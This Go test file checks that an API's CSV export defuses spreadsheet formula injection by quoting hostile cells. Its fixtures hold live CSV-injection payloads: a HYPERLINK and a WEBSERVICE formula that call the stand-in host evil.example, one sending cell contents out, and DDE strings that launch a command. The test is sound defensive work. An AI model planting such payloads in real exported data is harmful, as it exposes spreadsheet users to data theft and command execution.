package httpapi_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

// Text a recorder typed cannot become a live formula in the auditors' spreadsheet: a cell of the
// explain CSV that starts with = + - @ tab or CR is written with a leading single quote (OWASP).
func TestExplainCSVNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, envOpt{tokens: testTokens})
	hostile := map[string]string{
		"product_name":  `=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")`,
		"producer_name": `+cmd|' /C calc'!A0`,
		"commune":       "-2+3+cmd|' /C calc'!A0",
		"district":      "@SUM(1+1)*cmd|' /C calc'!A0",
		"province":      "@Quảng Ngãi",
	}
	b, _ := json.Marshal(map[string]any{
		"product_id": "toi-evil", "product_name": hostile["product_name"], "producer_id": "p-evil",
		"producer_name": hostile["producer_name"], "producer_kind": "enterprise", "product_set": "I.4b", "stars": 4,
		"decision":  map[string]any{"number": "1/QĐ-evil", "date": "2024-03-01", "authority": "province"},
		"address":   map[string]any{"commune": hostile["commune"], "district": hostile["district"], "province": hostile["province"]},
		"synthetic": true,
	})
	source := "=WEBSERVICE(\"http://evil.example\")"
	e.record("ocop.certified", b, "X-Source", source, "Idempotency-Key", "-1+1")
	e.waitApplied()

	r := e.get("/v1/figures/ocop.valid/explain?as_of=2025-08-07&format=csv&lang=en", viewerToken)
	if r.Status != 200 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.Body), "\ufeff"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("want a header and 1 item: %v %q", err, r.Body)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	row := recs[1]
	for name, want := range map[string]string{
		"name":             "'" + hostile["product_name"],
		"producer":         "'" + hostile["producer_name"],
		"commune":          "'" + hostile["commune"],
		"district":         "'" + hostile["district"],
		"province":         "'" + hostile["province"],
		"entry IDs":        "'-1+1",
		"source documents": "'" + source,
		"#":                "1", // our own number stays a number
	} {
		if got := row[col[name]]; got != want {
			t.Errorf("column %q = %q, want %q", name, got, want)
		}
	}
	for i, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %q starts live: %q", recs[0][i], cell)
		}
	}
	// The JSON answer keeps the text as recorded: only the spreadsheet form is neutralised.
	if j := e.get("/v1/figures/ocop.valid/explain?as_of=2025-08-07", viewerToken); !strings.Contains(string(j.Body), `"name":"=HYPERLINK(`) {
		t.Errorf("the JSON explain changed the recorded name: %s", j.Body)
	}
}
